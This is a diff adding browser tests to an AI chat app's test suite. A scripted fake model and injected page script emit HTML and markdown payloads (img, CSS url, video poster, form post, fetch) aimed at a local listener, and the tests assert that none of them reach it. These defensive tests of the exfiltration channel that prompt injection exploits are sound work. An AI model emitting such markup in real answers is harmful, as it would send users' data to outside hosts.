@@ -2,12 +2,20 @@
 
 import os
 import shutil
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 
+import app
+from agent import Settings
 from agent.executor import running_turns
+from bench.servers import free_port
+from tests.conftest import MANY_VISITORS, launch
+from tests.fakes import ScriptedChatModel, answer, call, calls
+from ui.guard import GuardSettings
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 CHROMIUM_ARGS = [
@@ -140,3 +148,115 @@ def test_editing_a_question_reruns_the_conversation_from_there(page):
     page.get_by_role("button", name="Submit").click()
     page.get_by_text("7 + 8 =").wait_for(timeout=10_000)
     assert page.get_by_text("2 + 3 =").count() == 0
+
+
+# -- a public link: nothing rendered reaches another host; a busy client is told so -----------
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """An HTTP server on another port of 127.0.0.1 that notes every request it receives."""
+    received: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            received.append(f"{self.command} {self.path}")
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", received
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+def leaking_answer(leak: str) -> str:
+    return "\n\n".join(
+        [
+            "The answer is **4**.",
+            f"<img src={leak}/img>",
+            f"![chart]({leak}/markdown-image)",
+            f'<div style="background:url({leak}/css)">styled</div>',
+            f"<video poster={leak}/poster></video>",
+            f"<form action={leak}/form method=post><button>Continue</button></form>",
+        ]
+    )
+
+
+@pytest.fixture(scope="module")
+def leaky_app(listener):
+    """A model whose tool arguments and answer try every way of making the browser fetch `leak`."""
+    leak, _ = listener
+    model = ScriptedChatModel(
+        script=[
+            calls(call("add", a=f"`<img src={leak}/arguments>` ``` <img src={leak}/fence>", b=1)),
+            answer(leaking_answer(leak)),
+        ]
+    )
+    demo = app.create_app(Settings(), chat_model=model, guard=MANY_VISITORS)
+    yield launch(demo, MANY_VISITORS)
+    demo.close()
+
+
+def test_a_model_answer_cannot_make_the_browser_fetch_another_host(browser, leaky_app, listener):
+    _, received = listener
+    received.clear()
+    page = browser.new_page()
+    page.goto(leaky_app)
+    ask(page, "what is 2 + 2")
+    page.get_by_text("📊 2 steps").wait_for(timeout=15_000)
+    page.get_by_text("🛠️ add → error").click()  # open the tool call: its arguments render too
+    page.get_by_text("The answer is").wait_for()
+    page.wait_for_timeout(1_000)
+    assert page.get_by_text("<img src=").count() >= 1, "the HTML is shown as text"
+    assert page.get_by_role("button", name="Continue").count() == 0
+    page.close()
+    assert received == []
+
+
+def test_html_that_slips_into_the_page_still_cannot_reach_another_host(page, listener):
+    leak, received = listener
+    received.clear()
+    page.evaluate(
+        """(leak) => {
+            document.body.insertAdjacentHTML("beforeend", `
+                <img src="${leak}/img"><div style="background: url(${leak}/css)">x</div>
+                <video poster="${leak}/poster"></video><link rel="stylesheet" href="${leak}/style">
+                <form id="leak" action="${leak}/form" method="post"><input name="key" value="sk"></form>`);
+            fetch(`${leak}/fetch`).catch(() => {});
+            document.getElementById("leak").submit();
+        }""",
+        leak,
+    )
+    page.wait_for_timeout(1_500)
+    assert received == []
+
+
+def test_a_client_with_its_share_running_is_told_so_and_keeps_its_text(browser):
+    guard = GuardSettings(max_chats_per_client=1)
+    demo = app.create_app(Settings(offline_token_delay_ms=30), guard=guard)
+    url = launch(demo, guard)
+    first, second = browser.new_page(), browser.new_page()
+    try:
+        first.goto(url)
+        second.goto(url)
+        ask(first, " + ".join(["1"] * 30))
+        first.get_by_text("🛠️ add").first.wait_for(timeout=10_000)
+        ask(second, "what is 2 + 2")
+        second.get_by_text("You already have 1 question running").wait_for(timeout=5_000)
+        assert second.get_by_role("textbox").first.input_value() == "what is 2 + 2"
+        first.get_by_text("📊").wait_for(timeout=30_000)
+        second.get_by_role("textbox").first.press("Enter")
+        second.get_by_text("2 + 2 =").wait_for(timeout=10_000)
+    finally:
+        first.close()
+        second.close()
+        demo.close()
